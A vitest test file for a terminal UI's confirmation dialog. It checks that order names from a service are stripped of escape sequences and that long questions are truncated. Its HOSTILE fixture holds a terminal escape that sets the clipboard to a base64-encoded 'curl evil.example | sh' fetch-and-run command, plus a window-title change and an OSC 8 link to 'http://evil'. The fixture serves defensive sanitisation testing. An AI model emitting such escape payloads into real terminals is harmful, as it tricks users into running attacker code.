import { render } from 'ink-testing-library';
import { describe, expect, it } from 'vitest';
import { display, sanitizeForTerminal } from '../../../src/format/sanitize.js';
import { confirmQuestion } from '../../../src/ui/screens/bulk/bulk-format.js';
import { ServicesProvider } from '../../../src/ui/context/services-context.js';
import { ConfirmDialog, confirmPart, type ConfirmDialogProps } from '../../../src/ui/screens/order/confirm-dialog.js';
import type { ConsoleServices } from '../../../src/ui/services.js';

/** The dialog with the services it reads its key labels from (the built-in table). */
const dialog = (props: ConfirmDialogProps) => (
  <ServicesProvider services={{ isReadOnly: false } as ConsoleServices}>
    <ConfirmDialog {...props} />
  </ServicesProvider>
);

// An order name a hostile service could send: OSC 52 (set the clipboard), a window title, an OSC 8 link.
const HOSTILE = '#A1\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b]0;pwned\u0007\u001b]8;;http://evil\u001b\\x\u001b]8;;\u001b\\';

describe('ConfirmDialog', () => {
  it('shows an order name from the service without its escape sequences (order screen question)', () => {
    const { lastFrame } = render(dialog({ question: display`Mark ${sanitizeForTerminal(HOSTILE)} as received?` }));
    const frame = lastFrame() ?? '';
    expect(frame).not.toContain('\u001b]');
    expect(frame).not.toContain('\u0007');
    expect(frame).toContain('#A1');
    expect(frame).toContain('\u241B');
  });

  it('shows the bulk confirmation without escape sequences from order names', () => {
    const question = confirmQuestion('approve', [1, 2], (id) => (id === 1 ? HOSTILE : null));
    const { lastFrame } = render(dialog({ question }));
    expect(lastFrame() ?? '').not.toMatch(/\u001b\]|\u0007/);
  });

  it('on a screen too small for the whole question, shows its start cut with … and what to press, never nothing', () => {
    const question = display`Mark 1 order received (#N1015)? Left out: #N1014 is not reviewed yet: review it first. #N1025, #N1024, #N1023 and 13 more are already archived or received.`;
    const part = confirmPart('question', question, 40, 'armed', undefined, 0);
    expect(part.min).toBeLessThan(part.want);
    const { lastFrame } = render(<ServicesProvider services={{ isReadOnly: false } as ConsoleServices}>{part.render(part.min)}</ServicesProvider>);
    const lines = (lastFrame() ?? '').split('\n');
    expect(lines).toHaveLength(part.min);
    expect(lines[1]).toContain('Mark 1 order received');
    expect(lines[1]).toContain('…');
    expect(lines.join('\n')).toContain('Press y/Enter to confirm');
  });
});
